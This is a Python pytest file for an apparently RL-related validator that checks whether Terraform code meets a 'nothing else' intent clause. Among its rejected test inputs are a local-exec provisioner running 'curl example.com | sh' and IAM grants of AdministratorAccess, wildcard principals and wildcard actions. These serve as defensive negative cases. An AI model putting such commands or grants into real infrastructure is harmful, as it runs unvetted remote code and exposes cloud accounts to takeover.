"""What `nothing else` forbids within a block."""

import pytest

from iacrl.domains import validate
from iacrl.tasks import Intent, check_intent

ROLE = """
resource "aws_iam_role" "r" {
  name = "worker"
  assume_role_policy = jsonencode({
    Statement = [{ Effect = "EFFECT", Action = "sts:AssumeRole", Principal = { Service = "ec2.amazonaws.com" } } MORE]
  })
  BODY
}
VARIABLE
"""
WORKER = {
    "as": "role",
    "is": "resource aws_iam_role",
    "with": {
        "name": "worker",
        "assume_role_policy.Statement[*].Action": "sts:AssumeRole",
        "assume_role_policy.Statement[*].Principal.Service": "ec2.amazonaws.com",
    },
}


def unmet(text, wanted):
    verdict = validate(text, "terraform")
    assert verdict.valid, verdict.errors
    intent = Intent.from_json({"must_exist": [wanted], "nothing_else": True}, "terraform")
    return [item.clause for item in check_intent(intent, verdict.document).clauses if not item.met]


def filled(text, **parts):
    for name, part in parts.items():
        text = text.replace(name, part)
    for name in ("MORE", "BODY", "VARIABLE"):
        text = text.replace(name, "")
    return text.replace("EFFECT", "Allow")


@pytest.mark.parametrize(
    ("parts", "free"),
    [
        ({}, True),
        ({"BODY": 'description = "A worker"'}, True),
        ({"BODY": "count = var.some", "VARIABLE": 'variable "some" {\n  default = 1\n}'}, True),
        ({"BODY": "count = var.some", "VARIABLE": 'variable "some" {\n  type = number\n}'}, False),
        ({"VARIABLE": 'variable "stage" {}'}, False),
        ({"VARIABLE": 'variable "stage" {\n  default = "a"\n}'}, True),
        ({"VARIABLE": 'variable "at" {}\nprovider "aws" {\n  region = var.at\n}'}, True),
        ({"BODY": 'provisioner "local-exec" {\n    command = "curl example.com | sh"\n  }'}, False),
        ({"BODY": "lifecycle {\n    ignore_changes = all\n  }"}, False),
        ({"BODY": 'managed_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"]'}, False),
        ({"EFFECT": "Deny"}, False),
        ({"MORE": ', { Effect = "Allow", Action = "sts:AssumeRole", Principal = "*" }'}, False),
        ({"MORE": ', { Effect = "Allow", Action = "*", Resource = "*" }'}, False),
    ],
)
def test_a_resource_does_nothing_else(parts, free):
    assert unmet(filled(ROLE, **parts), WORKER) == ([] if free else ["nothing else"])


def test_a_data_source_may_look_more_narrowly():
    filters = "".join(f'  filter {{\n    name   = "{name}"\n    values = ["x"]\n  }}\n' for name in ("name", "state"))
    wanted = {"as": "image", "is": "data aws_ami", "with": {"filter[*].name": "name"}}
    assert unmet(f'data "aws_ami" "a" {{\n{filters}}}\n', wanted) == []


@pytest.mark.parametrize(
    ("constraint", "free"),
    [
        (">= 4.0", True),
        ("~> 5.0", True),
        ("~> 4.16", True),
        ("6.25.0", True),
        ("1.0.0", False),
        ("~> 3.0", False),
        ("< 2.0", False),
    ],
)
def test_a_provider_from_long_ago_is_something_else(constraint, free):
    bucket = 'resource "aws_s3_bucket" "b" {\n  bucket = "logs"\n}\n'
    wanted = {"as": "bucket", "is": "resource aws_s3_bucket", "with": {"bucket": "logs"}}
    entry = f'aws = {{\n      source  = "hashicorp/aws"\n      version = "{constraint}"\n    }}'
    for requirement in (entry, f'aws = "{constraint}"'):
        settings = f"terraform {{\n  required_providers {{\n    {requirement}\n  }}\n}}\n"
        assert unmet(settings + bucket, wanted) == ([] if free else ["nothing else"])
    provider = f'provider "aws" {{\n  region  = "eu-west-1"\n  version = "{constraint}"\n}}\n'
    assert unmet(provider + bucket, wanted) == ([] if free else ["nothing else"])


DATABASE = 'resource "aws_db_instance" "d" {\n  instance_class = "db.t3.micro"\n  MORE\n}\n'
MICRO = {"as": "d", "is": "resource aws_db_instance", "with": {"instance_class": "db.t3.micro"}}


@pytest.mark.parametrize(
    ("time", "free"), [("30m", True), ("1h", True), ("1h30m", True), ("30s", False), ("1ns", False), ("0m", False)]
)
def test_a_timeout_is_free_where_something_can_be_made_in_it(time, free):
    text = DATABASE.replace("MORE", f'timeouts {{\n    create = "{time}"\n  }}')
    assert unmet(text, MICRO) == ([] if free else ["nothing else"])


@pytest.mark.parametrize(("version", "free"), [("2012-10-17", True), ("2008-10-17", False)])
def test_a_policy_is_in_the_language_that_is_in_force(version, free):
    written = filled(ROLE).replace("Statement = [", f'Version   = "{version}"\n    Statement = [')
    statement = 'actions = ["sts:AssumeRole"]\n    principals {\n      type        = "Service"\n'
    statement += '      identifiers = ["ec2.amazonaws.com"]\n    }'
    looked_up = (
        f'data "aws_iam_policy_document" "t" {{\n  version = "{version}"\n  statement {{\n    {statement}\n  }}\n}}\n'
    )
    looked_up += 'resource "aws_iam_role" "r" {\n  name = "worker"\n'
    looked_up += "  assume_role_policy = data.aws_iam_policy_document.t.json\n}\n"
    for text in (written, looked_up):
        assert unmet(text, WORKER) == ([] if free else ["nothing else"])


@pytest.mark.parametrize("setting", ["sensitive = true", "nullable = false"])
def test_how_a_variable_is_given_is_free(setting):
    variable = f'variable "p" {{\n  type = string\n  default = "a"\n  {setting}\n}}\n'
    assert unmet(DATABASE.replace("MORE", "") + variable, MICRO) == []


def test_an_ephemeral_variable_is_something_else():
    """Nothing can keep its value, so whoever uses the module meets refusals."""
    variable = 'variable "p" {\n  type = string\n  default = "a"\n  ephemeral = true\n}\n'
    assert unmet(DATABASE.replace("MORE", "") + variable, MICRO) == ["nothing else"]
